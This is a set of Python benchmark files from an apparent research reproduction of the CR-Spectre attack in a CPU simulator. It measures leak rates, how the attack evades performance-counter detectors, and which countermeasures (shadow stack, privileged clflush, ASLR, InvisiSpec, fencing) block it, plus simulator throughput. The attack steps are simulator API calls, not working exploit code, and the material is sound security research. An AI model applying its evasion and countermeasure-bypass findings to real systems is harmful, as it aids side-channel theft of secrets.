