"""Ablation benches for the design choices DESIGN.md calls out.

Not paper figures — these probe *why* the reproduction behaves as it
does: which perturbation knob moves which HPC, how the covert channel
depends on the speculative window, and which countermeasure kills which
stage of the attack.
"""

import pytest

from benchmarks.conftest import publish
from repro.attack import (
    PerturbParams,
    SpectreConfig,
    build_spectre,
    plan_execve_injection,
)
from repro.core.reporting import format_table
from repro.cpu import CpuConfig
from repro.errors import ProtectionFault, ShadowStackViolation
from repro.kernel import System
from repro.workloads import get_workload

SECRET = b"TheMagicWords!!!"


def _leak_accuracy(variant="v1", perturb=None, cpu_config=None,
                   stride=64, seed=5):
    system = System(seed=seed, target_data=SECRET,
                    cpu_config=cpu_config or CpuConfig())
    config = SpectreConfig(secret_length=len(SECRET), repeats=1,
                           perturb=perturb, stride=stride)
    system.install_binary("/bin/a", build_spectre(variant, config))
    process = system.spawn("/bin/a")
    process.run_to_completion(max_instructions=60_000_000)
    leaked = bytes(process.stdout)[:len(SECRET)]
    return sum(a == b for a, b in zip(leaked, SECRET)) / len(SECRET)


def _perturb_profile(params, seed=5):
    system = System(seed=seed, target_data=SECRET)
    config = SpectreConfig(secret_length=len(SECRET), repeats=1,
                           perturb=params)
    system.install_binary("/bin/a", build_spectre("v1", config))
    process = system.spawn("/bin/a")
    process.run_to_completion(max_instructions=60_000_000)
    snap = process.pmu.read()
    instr = snap["instructions"]
    return {
        "instructions": instr,
        "miss_rate": 1000 * snap["total_cache_misses"] / instr,
        "flush_rate": 1000 * snap["clflush_instructions"] / instr,
        "branch_rate": 1000 * snap["branch_instructions"] / instr,
    }


class TestPerturbKnobSweep:
    def test_knob_effects(self, benchmark):
        def sweep():
            rows = []
            for label, params in (
                ("none", None),
                ("paper defaults", PerturbParams()),
                ("loop_count=20", PerturbParams(loop_count=20)),
                ("extra_loops=4", PerturbParams(extra_loops=4)),
                ("delay=1000 cells", PerturbParams(delay=1000)),
                ("delay=1000 stream", PerturbParams(delay=1000, style=1)),
                ("delay=1000 chase", PerturbParams(delay=1000, style=2)),
            ):
                profile = _perturb_profile(params) if params else \
                    _perturb_profile(PerturbParams(loop_count=0))
                rows.append([
                    label,
                    profile["instructions"],
                    f"{profile['miss_rate']:.1f}",
                    f"{profile['flush_rate']:.1f}",
                    f"{profile['branch_rate']:.0f}",
                ])
            return rows

        rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
        publish("ablation_perturb_knobs", format_table(
            ["variant", "instructions", "miss/1k", "flush/1k", "br/1k"],
            rows,
            title="Ablation — which Algorithm-2 knob moves which HPC",
        ))
        by_label = {row[0]: row for row in rows}
        # Dispersion dilutes the flush rate; bursts raise it.
        assert float(by_label["delay=1000 cells"][3]) < \
            float(by_label["paper defaults"][3])
        assert float(by_label["extra_loops=4"][3]) > \
            float(by_label["paper defaults"][3])
        # The chase style manufactures misses; cells style does not.
        assert float(by_label["delay=1000 chase"][2]) > \
            float(by_label["delay=1000 cells"][2])


class TestSpecWindowSweep:
    def test_leak_rate_vs_window(self, benchmark):
        def sweep():
            rows = []
            for window in (0, 2, 4, 8, 16, 48):
                accuracy = _leak_accuracy(
                    cpu_config=CpuConfig(spec_window=window)
                )
                rows.append([window, f"{100 * accuracy:.0f}%"])
            return rows

        rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
        publish("ablation_spec_window", format_table(
            ["spec window", "bytes recovered"], rows,
            title="Ablation — speculative window depth vs leak rate",
        ))
        by_window = {w: float(p.rstrip('%')) for w, p in rows}
        assert by_window[0] < 20.0   # no transient window, no leak
        assert by_window[48] == 100.0
        # The v1 gadget needs ~7 wrong-path instructions.
        assert by_window[8] >= by_window[2]


class TestStrideSweep:
    def test_probe_stride(self, benchmark):
        def sweep():
            return [
                [stride, f"{100 * _leak_accuracy(stride=stride):.0f}%"]
                for stride in (64, 128, 256)
            ]

        rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
        publish("ablation_stride", format_table(
            ["probe stride", "bytes recovered"], rows,
            title="Ablation — covert-channel probe stride",
        ))
        for _, percent in rows:
            assert float(percent.rstrip("%")) == 100.0


class TestCountermeasureMatrix:
    def test_matrix(self, benchmark):
        host_program = get_workload("basicmath").build(
            iterations=40, hosted=True
        )
        attack = build_spectre(
            "v1", SpectreConfig(secret_length=len(SECRET), repeats=1)
        )

        def run_case(cpu_config=None, aslr=False):
            system = System(seed=31, target_data=SECRET, aslr=aslr,
                            cpu_config=cpu_config or CpuConfig())
            system.install_binary("/bin/host", host_program)
            system.install_binary("/bin/cr", attack)
            plan = plan_execve_injection(host_program, "/bin/host",
                                         "/bin/cr")
            process = system.spawn("/bin/host", argv=plan.argv)
            process.run_to_completion(max_instructions=60_000_000)
            stolen = bytes(process.stdout) == SECRET
            return stolen, process.fault

        def matrix():
            rows = []
            for label, kwargs in (
                ("none", {}),
                ("shadow stack", {"cpu_config": CpuConfig(
                    shadow_stack=True)}),
                ("privileged clflush", {"cpu_config": CpuConfig(
                    clflush_privileged=True)}),
                ("ASLR", {"aslr": True}),
                ("InvisiSpec", {"cpu_config": CpuConfig(
                    invisible_speculation=True)}),
                ("spec window = 0 (fencing)", {"cpu_config": CpuConfig(
                    spec_window=0)}),
            ):
                stolen, fault = run_case(**kwargs)
                rows.append([
                    label,
                    "STOLEN" if stolen else "blocked",
                    type(fault).__name__ if fault else "-",
                ])
            return rows

        rows = benchmark.pedantic(matrix, rounds=1, iterations=1)

        # Attacker rebuttal: evict+reload (no clflush in the binary)
        # against the privileged-clflush countermeasure.
        evict_attack = build_spectre("v1", SpectreConfig(
            secret_length=len(SECRET), repeats=1, flush_method="evict",
        ))
        system = System(seed=31, target_data=SECRET,
                        cpu_config=CpuConfig(clflush_privileged=True))
        system.install_binary("/bin/host", host_program)
        system.install_binary("/bin/cr", evict_attack)
        plan = plan_execve_injection(host_program, "/bin/host", "/bin/cr")
        process = system.spawn("/bin/host", argv=plan.argv)
        process.run_to_completion(max_instructions=120_000_000)
        rows.append([
            "privileged clflush vs EVICT+RELOAD",
            "STOLEN" if bytes(process.stdout) == SECRET else "blocked",
            type(process.fault).__name__ if process.fault else "-",
        ])

        publish("ablation_countermeasures", format_table(
            ["countermeasure", "secret", "fault"], rows,
            title="Ablation — Section-IV countermeasures vs CR-Spectre",
        ))
        by_label = {row[0]: row for row in rows}
        assert by_label["none"][1] == "STOLEN"
        assert by_label["shadow stack"][1] == "blocked"
        assert by_label["shadow stack"][2] == "ShadowStackViolation"
        assert by_label["privileged clflush"][1] == "blocked"
        assert by_label["ASLR"][1] == "blocked"
        assert by_label["InvisiSpec"][1] == "blocked"
        assert by_label["spec window = 0 (fencing)"][1] == "blocked"
        # the rebuttal: banning clflush does NOT stop a determined
        # attacker — eviction-based flushing leaks anyway
        assert by_label["privileged clflush vs EVICT+RELOAD"][1] == "STOLEN"
