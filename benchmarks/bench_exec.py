"""Benchmark the exec subsystem: serial vs warm-pool sweep wall-clock.

Times a reduced Figure-5 sweep (the widest plan: training → 2×attempts
+ search cells) at ``jobs=1`` against the warm worker pool at
``jobs=2`` and ``jobs=4``, asserts the parallel reports are
byte-identical to the serial reference, and records the baseline to
``BENCH_exec.json`` at the repo root.

Honesty rules for the recorded numbers:

* **Warmup is priced separately.**  Spawning workers and importing
  numpy + the simulator costs seconds; the steady state is what sweeps
  actually experience (pools persist across plans for the driver's
  lifetime).  Each parallel run records ``warmup_s`` (pool spin-up,
  forced via :func:`repro.exec.warmup`) and ``wall_s`` (post-warmup
  compute) side by side, and the baseline carries speedups both
  including and excluding warmup so neither story can hide the other.
* **Speedups are relative to the host's CPU count**, which is recorded.
  A 1-core CI runner honestly reports ~1x or below; the acceptance
  assertion only bites on real parallel hardware.  The determinism
  assertions bite everywhere.
"""

import os
import sys
import time

import pytest

from benchmarks.conftest import publish
from benchmarks.schema import write_bench_json
from repro.core.experiments import run_fig5
from repro.core.experiments.fig5 import plan_fig5
from repro.exec import warmup

#: Reduced fig5: full cell topology, ~quarter-scale sampling.
KNOBS = dict(
    seed=42, attempts=6, detector_names=("lr", "nn"),
    training_benign=120, training_attack=120,
    attempt_samples=30, attempt_benign=10,
)

JOB_COUNTS = (1, 2, 4)

#: Resolved once: every scaling gate below is conditional on this.  A
#: single-core host measures scheduling overhead, not parallelism, so
#: no ``--jobs N`` speedup assertion may bite there (the determinism
#: assertions still do).
CPU_COUNT = os.cpu_count()


def _timed_run(jobs):
    started = time.perf_counter()
    result = run_fig5(jobs=jobs, **KNOBS)
    return result, time.perf_counter() - started


@pytest.fixture(scope="module")
def sweep_timings():
    reports, timings, warmups = {}, {}, {}
    for jobs in JOB_COUNTS:
        if jobs > 1:
            # Pools are keyed by worker count, so this prices a cold
            # spin-up for each jobs value even though pools persist.
            warmups[jobs], workers = warmup(jobs)
            assert workers == jobs
        else:
            warmups[jobs] = 0.0
        result, elapsed = _timed_run(jobs)
        reports[jobs] = result.format()
        timings[jobs] = elapsed
    return reports, timings, warmups


def test_exec_parallel_baseline(benchmark, sweep_timings):
    cells = len(plan_fig5(**KNOBS))
    reports, timings, warmups = benchmark.pedantic(
        lambda: sweep_timings, rounds=1, iterations=1
    )

    # Determinism is the contract; speed is the baseline being recorded.
    for jobs in JOB_COUNTS[1:]:
        assert reports[jobs] == reports[1], f"jobs={jobs} diverged"

    cpu_count = CPU_COUNT
    if cpu_count < max(JOB_COUNTS):
        # Say it out loud, not just in a JSON field: on an undersized
        # box the jobs>cpu_count "speedups" measure scheduling overhead,
        # not parallelism, and must not be read as a regression (or an
        # improvement) against numbers from real parallel hardware.
        print(
            f"bench_exec: WARNING: host has {cpu_count} CPU(s) but "
            f"measures up to jobs={max(JOB_COUNTS)}; recorded speedups "
            "are NOT parallel-scaling evidence — compare cells_per_s "
            "across hosts only at matching cpu_count",
            file=sys.stderr,
        )

    write_bench_json(
        "exec",
        knobs={k: list(v) if isinstance(v, tuple) else v
               for k, v in KNOBS.items()},
        runs={
            str(jobs): {
                "warmup_s": round(warmups[jobs], 3),
                "wall_s": round(timings[jobs], 3),
                "cells_per_s": round(cells / timings[jobs], 3),
            }
            for jobs in JOB_COUNTS
        },
        experiment="fig5-reduced",
        cells=cells,
        speedup_vs_serial={
            str(jobs): round(timings[1] / timings[jobs], 3)
            for jobs in JOB_COUNTS[1:]
        },
        speedup_vs_serial_incl_warmup={
            str(jobs): round(
                timings[1] / (warmups[jobs] + timings[jobs]), 3
            )
            for jobs in JOB_COUNTS[1:]
        },
        identical_output=True,
        # True only when the host had at least as many CPUs as the
        # widest jobs value — the reader's one-glance honesty flag.
        speedups_meaningful=cpu_count >= max(JOB_COUNTS),
    )

    lines = [f"exec baseline — reduced fig5, {cells} cells, "
             f"{os.cpu_count()} CPU(s)"]
    for jobs in JOB_COUNTS:
        speedup = timings[1] / timings[jobs]
        lines.append(
            f"  jobs={jobs}: warmup {warmups[jobs]:5.2f}s + "
            f"compute {timings[jobs]:6.2f}s "
            f"({cells / timings[jobs]:.2f} cells/s, {speedup:.2f}x "
            f"steady-state)"
        )
    publish("exec", "\n".join(lines))

    benchmark.extra_info["cpu_count"] = os.cpu_count()
    for jobs in JOB_COUNTS[1:]:
        benchmark.extra_info[f"speedup_jobs{jobs}"] = round(
            timings[1] / timings[jobs], 3
        )
        benchmark.extra_info[f"warmup_jobs{jobs}_s"] = round(
            warmups[jobs], 3
        )
    # Scaling gates, strictly conditional on real parallel hardware:
    # any speedup at all from the second worker once there are two
    # cores, and the original >1.3x bar at jobs=4 once there are four.
    # On a 1-CPU host neither fires — the honest (sub-1x) baseline is
    # the deliverable there, recorded with speedups_meaningful=false.
    if CPU_COUNT > 1:
        assert timings[1] / timings[2] > 1.05, (
            f"jobs=2 gained nothing on a {CPU_COUNT}-CPU host"
        )
    if CPU_COUNT >= 4:
        assert timings[1] / timings[4] > 1.3
