"""Shared schema for the committed ``BENCH_*.json`` baselines.

Every benchmark that persists numbers to the repo root goes through
:func:`write_bench_json`, so all baselines share one shape — ``format``
tag, ``bench`` name, host ``cpu_count``, the resolved ``knobs``, and a
``runs`` mapping of mode/jobs -> measurement dict — and
``tests/test_bench_schema.py`` can hold every committed file to it.
"""

import json
import os
import pathlib

from repro.atomicio import atomic_write_text

#: Baseline format tag; bump on incompatible shape changes.
BENCH_FORMAT = "repro-bench/1"

#: Keys every baseline must carry.
REQUIRED_KEYS = ("format", "bench", "cpu_count", "knobs", "runs")

_REPO_ROOT = pathlib.Path(__file__).parent.parent


class BenchSchemaError(ValueError):
    """A baseline payload that does not match the shared schema."""


def bench_path(bench):
    """Repo-root path of one benchmark's committed baseline."""
    return _REPO_ROOT / f"BENCH_{bench}.json"


def build_bench_json(bench, knobs, runs, cpu_count=None, **extra):
    """Assemble a schema-conforming baseline payload.

    *knobs* is the benchmark's resolved parameter dict, *runs* maps a
    run label (mode name, job count) to its measurement dict.  Extra
    benchmark-specific keys ride along at the top level.
    """
    payload = {
        "format": BENCH_FORMAT,
        "bench": bench,
        "cpu_count": os.cpu_count() if cpu_count is None else cpu_count,
        "knobs": knobs,
        "runs": runs,
    }
    payload.update(extra)
    validate_bench(payload)
    return payload


def validate_bench(payload):
    """Raise :class:`BenchSchemaError` unless *payload* conforms."""
    if not isinstance(payload, dict):
        raise BenchSchemaError("baseline is not an object")
    for key in REQUIRED_KEYS:
        if key not in payload:
            raise BenchSchemaError(f"missing required key {key!r}")
    if payload["format"] != BENCH_FORMAT:
        raise BenchSchemaError(
            f"unknown format {payload['format']!r} "
            f"(expected {BENCH_FORMAT})"
        )
    if not isinstance(payload["bench"], str) or not payload["bench"]:
        raise BenchSchemaError("'bench' must be a non-empty string")
    if not isinstance(payload["cpu_count"], int):
        raise BenchSchemaError("'cpu_count' must be an integer")
    if not isinstance(payload["knobs"], dict):
        raise BenchSchemaError("'knobs' must be an object")
    runs = payload["runs"]
    if not isinstance(runs, dict) or not runs:
        raise BenchSchemaError("'runs' must be a non-empty object")
    for label, measurements in runs.items():
        if not isinstance(measurements, dict):
            raise BenchSchemaError(
                f"runs[{label!r}] must be an object of measurements"
            )
        for metric, value in measurements.items():
            if not isinstance(value, (int, float)):
                raise BenchSchemaError(
                    f"runs[{label!r}][{metric!r}] must be numeric, "
                    f"got {type(value).__name__}"
                )


def write_bench_json(bench, knobs, runs, cpu_count=None, **extra):
    """Validate and atomically persist one baseline; returns its path."""
    payload = build_bench_json(bench, knobs, runs,
                               cpu_count=cpu_count, **extra)
    path = bench_path(bench)
    atomic_write_text(
        path, json.dumps(payload, indent=2, sort_keys=True) + "\n"
    )
    return path
