"""Hardening ablation bench (beyond the paper).

Can the defender escape the paper's conclusion by adversarially
training on perturbation variants?  Expected shape: near-chance
accuracy on unseen variants with few trained variants, a jump once the
training pool covers all dispersion styles, but never back to the
plain-Spectre ~100 % — the cat-and-mouse is mitigated, not closed.
"""

import pytest

from benchmarks.conftest import publish
from repro.core.experiments import run_hardening


@pytest.fixture(scope="module")
def hardening_result():
    return run_hardening(
        seed=42, train_variant_counts=(0, 2, 4, 8), holdout_variants=4,
    )


def test_hardening_regeneration(benchmark, hardening_result):
    result = benchmark.pedantic(
        lambda: hardening_result, rounds=1, iterations=1
    )
    publish("ablation_hardening", result.format())
    benchmark.extra_info["improvement"] = result.improvement()

    accuracies = result.accuracy_by_k
    # Untrained-on-variants detector sits near the evasion regime.
    assert accuracies[0] < 0.70
    # Adversarial training with full style coverage helps materially.
    assert accuracies[max(accuracies)] > accuracies[0] + 0.10
    # Monotone-ish: more coverage never makes things much worse.
    ks = sorted(accuracies)
    for low, high in zip(ks, ks[1:]):
        assert accuracies[high] >= accuracies[low] - 0.15
