"""Benchmark the simulation core: single-core interpreter throughput.

Times the ``Cpu.run`` dispatch on two MiBench kernels (basicmath:
ALU/branch heavy; sha: load/store heavy) under both untraced engines —
the locals-bound fast loop and the superblock translator — and records
instructions/second and cache accesses/second to ``BENCH_core.json``
at the repo root.

Two regression gates guard two generations of the core:

* the fast loop must stay at least :data:`MIN_SPEEDUP` above the
  committed step()-loop era numbers (``pre_change``), and
* the superblock engine (``sb/*`` rows) must stay at least
  :data:`SB_MIN_SPEEDUP` above :data:`FAST_COMMITTED` — the fast-loop
  rows committed to ``BENCH_core.json`` on the same host immediately
  before the translator landed.

``identical_output`` is not taken on faith: this bench re-runs a
reduced kernel through the fast loop, the superblock engine and the
step() reference and diffs the full architectural state (all 56 PMU
events, registers, exit code) before publishing any number.  The sb
verification pass doubles as the translator warm-up: the source→code
cache is hot when measurement starts, so the ``sb/*`` rows report
steady-state throughput rather than first-compile cost.

The host has one CPU and real scheduler noise, so every gated row is
the best of :data:`REPEATS` fresh runs — min-of-N is the standard
estimator for "what the code can do" under interference.
"""

import time

import pytest

from benchmarks.conftest import publish
from benchmarks.schema import write_bench_json
from repro.cpu import engine_override
from repro.kernel import System
from repro.workloads import get_workload

#: step()-loop throughput on the reference 1-core host, captured before
#: the fast dispatch loop replaced it (see docs/PARALLELISM.md).
PRE_CHANGE = {
    "instructions_per_s": 65_593,
    "cache_accesses_per_s": 172_555,
}

#: The regression bar: the fast loop must hold at least this multiple
#: of the pre-change throughput.
MIN_SPEEDUP = 2.0

#: Fast-loop instructions/s committed to BENCH_core.json on this host
#: immediately before the superblock engine landed; the sb/* rows are
#: gated against these, not against a same-run fast measurement, so a
#: globally slow host cannot flatter the ratio.
FAST_COMMITTED = {
    "basicmath": 543_857,
    "sha": 768_026,
}

#: The superblock bar: sb/* throughput vs the committed fast rows.
SB_MIN_SPEEDUP = 2.0

#: Best-of-N runs per gated row (1-core host, noisy neighbours; the
#: observed spread between a quiet and a contended run exceeds 30%,
#: so the estimator needs several draws to land near the true cost).
REPEATS = 5

KERNELS = (("basicmath", 2000), ("sha", 60))

#: Reduced iteration counts for the engine-vs-step equivalence diff
#: (step() is the slow reference; the diff only needs coverage).
VERIFY_KERNELS = (("basicmath", 20), ("sha", 2))

#: The out-of-order core's interpreter carries Tomasulo bookkeeping per
#: instruction, so it is measured at reduced counts and reported for
#: visibility only — the throughput gates stay on the in-order core.
OOO_KERNELS = (("basicmath", 500), ("sha", 15))


def _spawn(name, iterations, uarch="inorder"):
    system = System(seed=7, uarch=uarch)
    workload = get_workload(name)
    system.install_binary("/bin/bench", workload.build(iterations=iterations))
    return system, system.spawn("/bin/bench")


def _measure(name, iterations, uarch="inorder", engine="fast",
             repeats=REPEATS):
    best = None
    with engine_override(engine):
        for _ in range(repeats):
            system, process = _spawn(name, iterations, uarch=uarch)
            started = time.perf_counter()
            system.run()
            elapsed = time.perf_counter() - started
            if best is None or elapsed < best[0]:
                best = (elapsed, process.cpu.pmu.read())
    elapsed, counters = best
    return {
        "wall_s": round(elapsed, 3),
        "instructions": counters["instructions"],
        "instructions_per_s": round(counters["instructions"] / elapsed),
        "cache_accesses_per_s": round(
            counters["total_cache_accesses"] / elapsed
        ),
    }


def _snapshot(process):
    cpu = process.cpu
    return {
        "regs": list(cpu.state.regs),
        "pc": cpu.state.pc,
        "exit_code": cpu.state.exit_code,
        "cycles": cpu.cycles,
        "events": cpu.pmu.read(),
        "stdout": bytes(process.stdout),
    }


def _identical_output():
    for name, iterations in VERIFY_KERNELS:
        _, reference = _spawn(name, iterations)
        while not reference.cpu.state.halted:
            reference.cpu.step()
        expected = _snapshot(reference)
        for engine in ("fast", "sb"):
            with engine_override(engine):
                system, run = _spawn(name, iterations)
                system.run()
            if _snapshot(run) != expected:
                return False
    return True


@pytest.fixture(scope="module")
def core_runs():
    assert _identical_output(), "run() engines diverged from step()"
    runs = {name: _measure(name, iterations)
            for name, iterations in KERNELS}
    runs.update({
        f"sb/{name}": _measure(name, iterations, engine="sb")
        for name, iterations in KERNELS
    })
    runs.update({
        f"ooo/{name}": _measure(name, iterations, uarch="ooo",
                                engine="sb", repeats=1)
        for name, iterations in OOO_KERNELS
    })
    return runs


def test_core_throughput_baseline(benchmark, core_runs):
    runs = benchmark.pedantic(lambda: core_runs, rounds=1, iterations=1)

    speedups = {
        name: round(
            runs[name]["instructions_per_s"]
            / PRE_CHANGE["instructions_per_s"], 2
        )
        for name, _ in KERNELS
    }
    sb_vs_fast_committed = {
        name: round(
            runs[f"sb/{name}"]["instructions_per_s"]
            / FAST_COMMITTED[name], 2
        )
        for name, _ in KERNELS
    }
    ooo_vs_inorder = {
        name: round(
            runs[f"ooo/{name}"]["instructions_per_s"]
            / runs[name]["instructions_per_s"], 2
        )
        for name, _ in OOO_KERNELS
    }
    write_bench_json(
        "core",
        knobs={**dict(KERNELS),
               **{f"sb/{name}": iterations
                  for name, iterations in KERNELS},
               **{f"ooo/{name}": iterations
                  for name, iterations in OOO_KERNELS}},
        runs=runs,
        pre_change=PRE_CHANGE,
        speedup_vs_pre_change=speedups,
        fast_committed=FAST_COMMITTED,
        sb_vs_fast_committed=sb_vs_fast_committed,
        ooo_vs_inorder_instr_per_s=ooo_vs_inorder,
        identical_output=True,  # asserted in the core_runs fixture
    )

    lines = [f"core baseline — run() engines vs pre-change "
             f"{PRE_CHANGE['instructions_per_s']:,} instr/s"]
    for name, run in runs.items():
        if name in speedups:
            note = f"({speedups[name]:.1f}x)"
        elif name.startswith("sb/"):
            note = (f"({sb_vs_fast_committed[name[3:]]:.2f}x of "
                    f"committed fast loop)")
        else:
            note = (f"({ooo_vs_inorder[name.split('/', 1)[1]]:.2f}x "
                    f"of inorder)")
        lines.append(
            f"  {name:14s}: {run['instructions_per_s']:>9,} instr/s, "
            f"{run['cache_accesses_per_s']:>9,} cache acc/s {note}"
        )
    publish("core", "\n".join(lines))

    for name, run in runs.items():
        benchmark.extra_info[f"{name}_instructions_per_s"] = \
            run["instructions_per_s"]

    # Regression gates.  The fast in-order path must not decay back
    # toward the step()-loop era, and the superblock engine must hold
    # its 2x over the committed fast rows — both bars sit far below
    # the measured ratios so host jitter cannot flake them, while
    # still catching any real regression.  The ooo/* runs are reported
    # but not gated — the Tomasulo interpreter is a different machine.
    for name, _ in KERNELS:
        assert runs[name]["instructions_per_s"] >= \
            MIN_SPEEDUP * PRE_CHANGE["instructions_per_s"], name
        assert runs[f"sb/{name}"]["instructions_per_s"] >= \
            SB_MIN_SPEEDUP * FAST_COMMITTED[name], f"sb/{name}"
