"""Benchmark the simulation core: single-core interpreter throughput.

Times the fast ``Cpu.run`` dispatch loop on two MiBench kernels
(basicmath: ALU/branch heavy; sha: load/store heavy) and records
instructions/second and cache accesses/second to ``BENCH_core.json``
at the repo root.

The committed ``pre_change`` numbers are the step()-driven loop's
throughput measured on the same 1-core host immediately before the
fast path landed; the regression gate asserts the current loop stays
at least 2x above them.  ``identical_output`` is not taken on faith:
this bench re-runs a reduced kernel through both the fast loop and the
step() reference and diffs the full architectural state (all 56 PMU
events, registers, exit code) before publishing any number.
"""

import time

import pytest

from benchmarks.conftest import publish
from benchmarks.schema import write_bench_json
from repro.kernel import System
from repro.workloads import get_workload

#: step()-loop throughput on the reference 1-core host, captured before
#: the fast dispatch loop replaced it (see docs/PARALLELISM.md).
PRE_CHANGE = {
    "instructions_per_s": 65_593,
    "cache_accesses_per_s": 172_555,
}

#: The regression bar: the fast loop must hold at least this multiple
#: of the pre-change throughput.
MIN_SPEEDUP = 2.0

KERNELS = (("basicmath", 2000), ("sha", 60))

#: Reduced iteration counts for the fast-vs-step equivalence diff
#: (step() is the slow reference; the diff only needs coverage).
VERIFY_KERNELS = (("basicmath", 20), ("sha", 2))

#: The out-of-order core's interpreter carries Tomasulo bookkeeping per
#: instruction, so it is measured at reduced counts and reported for
#: visibility only — the MIN_SPEEDUP gate stays on the in-order loop.
OOO_KERNELS = (("basicmath", 500), ("sha", 15))


def _spawn(name, iterations, uarch="inorder"):
    system = System(seed=7, uarch=uarch)
    workload = get_workload(name)
    system.install_binary("/bin/bench", workload.build(iterations=iterations))
    return system, system.spawn("/bin/bench")


def _measure(name, iterations, uarch="inorder"):
    system, process = _spawn(name, iterations, uarch=uarch)
    started = time.perf_counter()
    system.run()
    elapsed = time.perf_counter() - started
    counters = process.cpu.pmu.read()
    return {
        "wall_s": round(elapsed, 3),
        "instructions": counters["instructions"],
        "instructions_per_s": round(counters["instructions"] / elapsed),
        "cache_accesses_per_s": round(
            counters["total_cache_accesses"] / elapsed
        ),
    }


def _snapshot(process):
    cpu = process.cpu
    return {
        "regs": list(cpu.state.regs),
        "pc": cpu.state.pc,
        "exit_code": cpu.state.exit_code,
        "cycles": cpu.cycles,
        "events": cpu.pmu.read(),
        "stdout": bytes(process.stdout),
    }


def _identical_output():
    for name, iterations in VERIFY_KERNELS:
        fast_system, fast = _spawn(name, iterations)
        fast_system.run()
        _, reference = _spawn(name, iterations)
        while not reference.cpu.state.halted:
            reference.cpu.step()
        if _snapshot(fast) != _snapshot(reference):
            return False
    return True


@pytest.fixture(scope="module")
def core_runs():
    assert _identical_output(), "fast loop diverged from step() reference"
    runs = {name: _measure(name, iterations) for name, iterations in KERNELS}
    runs.update({
        f"ooo/{name}": _measure(name, iterations, uarch="ooo")
        for name, iterations in OOO_KERNELS
    })
    return runs


def test_core_throughput_baseline(benchmark, core_runs):
    runs = benchmark.pedantic(lambda: core_runs, rounds=1, iterations=1)

    speedups = {
        name: round(
            runs[name]["instructions_per_s"]
            / PRE_CHANGE["instructions_per_s"], 2
        )
        for name, _ in KERNELS
    }
    ooo_vs_inorder = {
        name: round(
            runs[f"ooo/{name}"]["instructions_per_s"]
            / runs[name]["instructions_per_s"], 2
        )
        for name, _ in OOO_KERNELS
    }
    write_bench_json(
        "core",
        knobs={**dict(KERNELS),
               **{f"ooo/{name}": iterations
                  for name, iterations in OOO_KERNELS}},
        runs=runs,
        pre_change=PRE_CHANGE,
        speedup_vs_pre_change=speedups,
        ooo_vs_inorder_instr_per_s=ooo_vs_inorder,
        identical_output=True,  # asserted in the core_runs fixture
    )

    lines = [f"core baseline — fast run() loop vs pre-change "
             f"{PRE_CHANGE['instructions_per_s']:,} instr/s"]
    for name, run in runs.items():
        note = (f"({speedups[name]:.1f}x)" if name in speedups
                else f"({ooo_vs_inorder[name.split('/', 1)[1]]:.2f}x "
                     f"of inorder)")
        lines.append(
            f"  {name:14s}: {run['instructions_per_s']:>9,} instr/s, "
            f"{run['cache_accesses_per_s']:>9,} cache acc/s {note}"
        )
    publish("core", "\n".join(lines))

    for name, run in runs.items():
        benchmark.extra_info[f"{name}_instructions_per_s"] = \
            run["instructions_per_s"]

    # Regression gate: the fast in-order path must not decay back toward
    # the step()-loop era.  2x is deliberately far below the measured
    # ~9x so host jitter cannot flake it, while still catching any real
    # regression of the dispatch loop.  The ooo/* runs are reported but
    # not gated — the Tomasulo interpreter is a different machine.
    for name, _ in KERNELS:
        assert runs[name]["instructions_per_s"] >= \
            MIN_SPEEDUP * PRE_CHANGE["instructions_per_s"], name
