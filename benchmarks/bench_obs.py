"""Benchmark the observability layer: tracing overhead on both cores.

Times a fixed workload (basicmath to completion on a fresh simulated
System) three ways per microarchitecture:

* ``off``      — no tracer active (the NULL path every normal run takes),
* ``filtered`` — a Tracer is active but every category is filtered out
  (channels unbound; measures pure bookkeeping: the acceptance bar),
* ``full``     — all categories recorded (the honest cost of ``--trace``).

The in-order core keeps its original row names (``off``/``filtered``/
``full``); the Tomasulo core's rows are prefixed ``ooo_``.  The OoO
rows exist because its pipeline counters (ROB occupancy, squashes,
stall tallies) ride the same registry — the ≤5 % disabled-overhead
budget must hold *per core*, not just on the cheap one.

Records the baseline to ``BENCH_obs.json`` at the repo root.  Like
``BENCH_exec.json``, the numbers are per-host honest: ``cpu_count``
rides along, and the ≤5 % disabled-overhead assertion is checked on
the *minimum* of repeated interleaved runs: timing noise on a shared
host is strictly one-sided (preemption only ever adds time), so the
per-mode minimum is the estimator of intrinsic cost least coupled to
scheduler weather — exactly ``timeit``'s rationale.  The medians ride
along in the baseline for context.
"""

import gc
import os
import statistics
import time

import pytest

from benchmarks.conftest import publish
from benchmarks.schema import write_bench_json
from repro.kernel.system import System
from repro.obs.tracer import TraceConfig, Tracer, activate
from repro.workloads import get_workload

#: Workload knobs: long enough that per-step cost dominates Tracer
#: construction *and* host jitter (each timed run lands near 0.3s),
#: short enough to keep the bench under a minute.  The slower Tomasulo
#: core needs fewer iterations for the same wall time.
ITERATIONS = {"inorder": 1200, "ooo": 400}
ROUNDS = 9

MODES = ("off", "filtered", "full")
UARCHS = ("inorder", "ooo")


def _row(uarch, mode):
    """Baseline row label: legacy bare names for inorder, ``ooo_``
    prefix for the Tomasulo core."""
    return mode if uarch == "inorder" else f"{uarch}_{mode}"


def _run_workload(uarch):
    system = System(seed=0, uarch=uarch)
    system.install_binary(
        "/bin/w",
        get_workload("basicmath").build(iterations=ITERATIONS[uarch])
    )
    process = system.spawn("/bin/w")
    process.run_to_completion(max_instructions=50_000_000)
    return int(process.cpu.cycles)


def _timed(uarch, mode):
    # Settle the heap first: a ``full`` run leaves ~10^5 trace records
    # behind, and collecting them inside the *next* timed run would
    # bill one mode for another's garbage.
    gc.collect()
    started = time.perf_counter()
    if mode == "off":
        cycles = _run_workload(uarch)
        records = 0
    else:
        config = (TraceConfig(categories=())
                  if mode == "filtered" else TraceConfig())
        tracer = Tracer(config)
        with activate(tracer):
            cycles = _run_workload(uarch)
        tracer.finalize()
        records = len(tracer.records)
    return time.perf_counter() - started, cycles, records


@pytest.fixture(scope="module")
def obs_timings():
    timings = {(uarch, mode): [] for uarch in UARCHS for mode in MODES}
    cycles = {}
    records = {}
    # Interleave the modes so drift hits all of them equally, rotating
    # the order each round so no mode always occupies the same (warm or
    # cold) slot within a round.
    for round_index in range(ROUNDS):
        shift = round_index % len(MODES)
        rotated = MODES[shift:] + MODES[:shift]
        for uarch in UARCHS:
            for mode in rotated:
                elapsed, run_cycles, run_records = _timed(uarch, mode)
                timings[uarch, mode].append(elapsed)
